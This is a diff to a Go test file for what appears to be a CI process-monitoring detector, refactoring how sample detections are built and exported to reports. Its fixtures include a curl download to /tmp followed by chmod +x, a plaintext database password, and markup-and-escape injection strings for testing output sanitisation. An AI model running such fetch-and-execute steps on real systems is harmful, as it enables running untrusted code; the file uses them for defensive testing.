@@ -12,6 +12,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/vigil-otel/vigil/describe"
 	"github.com/vigil-otel/vigil/detection"
 	"github.com/vigil-otel/vigil/event"
 	"github.com/vigil-otel/vigil/exporter"
@@ -25,7 +26,14 @@ var start = time.Date(2026, 12, 2, 9, 0, 0, 0, time.UTC)
 // sample is the i-th of a set of detections of three recipes, as the
 // pipeline hands them to the exporter: a GitHub Actions job's steps,
 // each process under a shell under the runner.
-func sample(i int, args ...string) *detection.Detection {
+func sample(t *testing.T, i int, args ...string) *detection.Record {
+	t.Helper()
+	return sampleAfter(t, i, nil, args...)
+}
+
+// sampleAfter is sample for a sequence recipe that fired after steps.
+func sampleAfter(t *testing.T, i int, steps []recipe.Step, args ...string) *detection.Record {
+	t.Helper()
 	recipes := []*recipe.Recipe{
 		{Name: "interpreter_shell_spawn", Description: "An interpreter started a shell", Importance: recipe.High,
 			Tactic: recipe.ATTACK{ID: "TA0002", Name: "Execution"}, Techniques: []recipe.Technique{{ATTACK: recipe.ATTACK{ID: "T1059", Name: "Command and Scripting Interpreter"}, Sub: recipe.ATTACK{ID: "T1059.004", Name: "Unix Shell"}}},
@@ -43,20 +51,21 @@ func sample(i int, args ...string) *detection.Detection {
 	}
 	env := map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_JOB": "test", "GITHUB_ACTION": fmt.Sprintf("__run_%d", 2+i%2)}
 	pid := uint32(1000 + i)
-	return &detection.Detection{
-		Recipe:  r,
-		Exec:    &event.Event{Kind: event.KindExec, Time: start.Add(time.Duration(i) * time.Millisecond), PID: pid, PPID: 900, Env: env},
-		Process: &proctable.Process{PID: pid, PPID: 900, Exe: "/usr/bin/sh", Args: args},
-		Ancestors: []*proctable.Process{
-			{PID: 900, PPID: 800, Exe: "/usr/bin/python3", Args: []string{"python3", "build.py"}},
-			{PID: 800, PPID: 1, Exe: "/home/runner/Runner.Worker"},
-		},
+	proc := &proctable.Process{PID: pid, PPID: 900, Exe: "/usr/bin/sh", Args: args}
+	ev := &event.Event{Kind: event.KindExec, Time: start.Add(time.Duration(i) * time.Millisecond), PID: pid, PPID: 900, Env: env}
+	ancestors := []*proctable.Process{
+		{PID: 900, PPID: 800, Exe: "/usr/bin/python3", Args: []string{"python3", "build.py"}},
+		{PID: 800, PPID: 1, Exe: "/home/runner/Runner.Worker"},
 	}
+	d, err := describe.New(nil)
+	require.NoError(t, err)
+	rec := d.Detection(recipe.Hit{Recipe: r, Steps: steps}, proc, d.Exec(proc, ev), ancestors)
+	return &rec
 }
 
 // exported returns the report of ds, made from the JSON lines of the real
 // exporter, as vigil run makes it.
-func exported(t *testing.T, ds ...*detection.Detection) *report.Report {
+func exported(t *testing.T, ds ...*detection.Record) *report.Report {
 	t.Helper()
 	rep := report.New(0)
 	exp, err := exporter.New(context.Background(), exporter.Config{Report: rep.Lines()})
@@ -69,7 +78,7 @@ func exported(t *testing.T, ds ...*detection.Detection) *report.Report {
 }
 
 func TestReportFromTheExportersLines(t *testing.T) {
-	rep := exported(t, sample(0), sample(1), sample(2), sample(3, "sh", "-c", "mysql --password=hunter2"))
+	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2), sample(t, 3, "sh", "-c", "mysql --password=hunter2"))
 	require.Equal(t, uint64(4), rep.Total)
 	require.Len(t, rep.Detections, 4)
 	d := rep.Detections[0]
@@ -94,11 +103,10 @@ func TestReportFromTheExportersLines(t *testing.T) {
 // TestSequenceStepsInEveryFormat follows a sequence recipe's earlier
 // steps from the exporter's lines into the report and its formats.
 func TestSequenceStepsInEveryFormat(t *testing.T) {
-	d := sample(0)
-	d.Steps = []recipe.Step{
+	d := sampleAfter(t, 0, []recipe.Step{
 		{PID: 990, Exe: "/usr/bin/curl", Args: []string{"curl", "-so", "/tmp/x", "https://203.0.113.7/</pre>"}},
 		{PID: 991, Exe: "/usr/bin/chmod", Args: []string{"chmod", "+x", "/tmp/x"}},
-	}
+	})
 	rep := exported(t, d)
 	require.Equal(t, []string{"990 curl -so /tmp/x https://203.0.113.7/</pre>", "991 chmod +x /tmp/x"}, rep.Detections[0].Steps)
 
@@ -110,7 +118,7 @@ func TestSequenceStepsInEveryFormat(t *testing.T) {
 }
 
 func TestJSONRoundTrips(t *testing.T) {
-	rep := exported(t, sample(0), sample(1), sample(2))
+	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2))
 	code, execs := 2, uint64(41)
 	rep.Command, rep.ExitCode, rep.Execs, rep.TraceID = []string{"make", "test"}, &code, &execs, "4bf92f3577b34da6a3ce929d0e0e4736"
 	rep.Start, rep.End = start, start.Add(3*time.Second)
@@ -141,7 +149,7 @@ func TestReadJSONLines(t *testing.T) {
 	exp, err := exporter.New(context.Background(), exporter.Config{JSONL: &lines})
 	require.NoError(t, err)
 	for i := range 5 {
-		require.NoError(t, exp.Emit(context.Background(), sample(i)))
+		require.NoError(t, exp.Emit(context.Background(), sample(t, i)))
 	}
 	require.NoError(t, exp.Shutdown(context.Background()))
 
@@ -200,7 +208,7 @@ func TestBoundedList(t *testing.T) {
 }
 
 func TestMarkdown(t *testing.T) {
-	rep := exported(t, sample(1), sample(0), sample(2, "sh", "-c", "x | y `z` <script> </pre> [a](b) *b* \x1b[2J\n# h"))
+	rep := exported(t, sample(t, 1), sample(t, 0), sample(t, 2, "sh", "-c", "x | y `z` <script> </pre> [a](b) *b* \x1b[2J\n# h"))
 	rep.Command = []string{"make", "test"}
 	rep.Apply(recipe.Critical)
 	var b bytes.Buffer
@@ -268,7 +276,7 @@ func TestMarkdownFitsGitHubsLimitFor10000Detections(t *testing.T) {
 }
 
 func TestJUnit(t *testing.T) {
-	rep := exported(t, sample(0), sample(1), sample(2), sample(3), sample(4))
+	rep := exported(t, sample(t, 0), sample(t, 1), sample(t, 2), sample(t, 3), sample(t, 4))
 	rep.Command = []string{"make", "test"}
 	var b bytes.Buffer
 	require.NoError(t, rep.WriteJUnit(&b))
@@ -328,7 +336,7 @@ func TestJUnit(t *testing.T) {
 }
 
 func TestText(t *testing.T) {
-	rep := exported(t, sample(1), sample(0))
+	rep := exported(t, sample(t, 1), sample(t, 0))
 	execs := uint64(12)
 	rep.Execs, rep.Lost = &execs, &report.Losses{}
 	var b bytes.Buffer
